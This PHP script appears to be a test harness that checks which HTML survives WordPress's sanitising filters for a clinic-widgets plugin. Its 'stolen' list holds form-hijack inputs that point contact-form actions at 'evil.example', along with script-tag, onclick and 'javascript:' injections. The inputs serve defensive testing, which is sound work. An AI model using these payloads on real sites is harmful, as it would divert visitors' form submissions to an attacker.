<?php
/**
 * `php filters.php FOLDER < snippets.json`: what WordPress's own filters leave of each snippet, as JSON. Saved as the role
 * saves it, shown as a page shows it.
 */
require __DIR__ . '/boot.php';

/** As it is kept in the database. */
function saved( $html, $unfiltered ) {
	$unfiltered ? kses_remove_filters() : kses_init_filters();
	return wp_unslash( apply_filters( 'content_save_pre', wp_slash( $html ) ) );
}

/** As a page shows it. */
function shown( $html ) {
	return trim( apply_filters( 'the_content', $html ) ) . "\n";
}

/** As the block editor keeps what was typed into a block for HTML. */
function block( $html ) {
	return "<!-- wp:html -->\n$html\n<!-- /wp:html -->";
}

$snippets = json_decode( stream_get_contents( STDIN ), true );
$results  = array();
$run      = function ( $filter, $way ) use ( $snippets, &$results ) {
	$results[ $filter ] = array_map( $way, $snippets );
};

$run( 'block-administrator', fn( $html ) => shown( saved( block( $html ), true ) ) );
$run( 'block-author', fn( $html ) => shown( saved( block( $html ), false ) ) );
$run( 'classic-administrator', fn( $html ) => shown( saved( $html, true ) ) );
$run( 'classic-author', fn( $html ) => shown( saved( $html, false ) ) );

define( 'CLINIC_WIDGETS_ACTION', 'https://www.clinic.example/v1/forms/clinic' );
require WP_PLUGIN_DIR . '/clinic-widgets/clinic-widgets.php';
clinic_widgets_register_assets();
clinic_widgets_register_blocks();
$run( 'plugin-author', fn( $html ) => shown( saved( block( $html ), false ) ) );

$page = '[clinic-widget tag="procedure-steps" heading="The \'steps\'" collapsible="true" onclick="x"]<ol><li>First<script>x</script></li></ol>[/clinic-widget]'
	. "\n\n" . '[clinic-widget tag="contact-form" action="https://other.example/" privacy_href="javascript:x"]<p>Ask us</p>[/clinic-widget]'
	. "\n\n" . '[clinic-widget tag="script"]'
	. "\n\n" . '<!-- wp:clinic-widgets/widget {"tag":"procedure-guide","src":"/content/vertebroplasty.json"} /-->';
$results['plugin']['page'] = shown( $page );

// What an author may write to have messages sent elsewhere: each way of writing the same tag.
$stolen = array(
	'<div data-cw="contact-form" data-action="https://evil.example/">a</div>',
	"<div data-action='https://evil.example/' data-cw='contact-form'>b</div>",
	'<div data-action=https://evil.example/ data-cw=contact-form>c</div>',
	'<DIV DATA-ACTION="https://evil.example/" DATA-CW="contact-form">d</DIV>',
	'<div data-action="https://evil.example/" data-cw="contact&#45;form">f</div>',
	'<div data-action="https://evil.example/" data-action="https://evil.example/" data-cw="procedure-guide">g</div>',
	"<div\n data-cw=\"contact-form\"\n data-action = \"https://evil.example/\"\n>h</div>",
	'<div data-cw="contact-form" data-action="https://evil.example/"><contact-form>i</contact-form></div>',
	'<contact-form action="https://evil.example/">j</contact-form>',
	'<div class="other" data-action="https://other.example/">k</div>',
	// WordPress itself spoils this one, and what follows it.
	'<div title="a > b" data-action="https://evil.example/" data-cw="contact-form">e</div>',
);
$results['plugin']['stolen'] = shown( saved( block( implode( "\n", $stolen ) ), false ) );
// As a page shows it that WordPress's filters have not cleaned.
$results['plugin']['stolen-unfiltered'] = shown( saved( block( implode( "\n", $stolen ) ), true ) );

clinic_widgets_enqueue();
ob_start();
wp_print_styles();
wp_print_scripts( array( 'clinic-widgets' ) );
$results['plugin']['head'] = trim( ob_get_clean() ) . "\n";

echo wp_json_encode( array( 'version' => $wp_version, 'results' => $results ) );
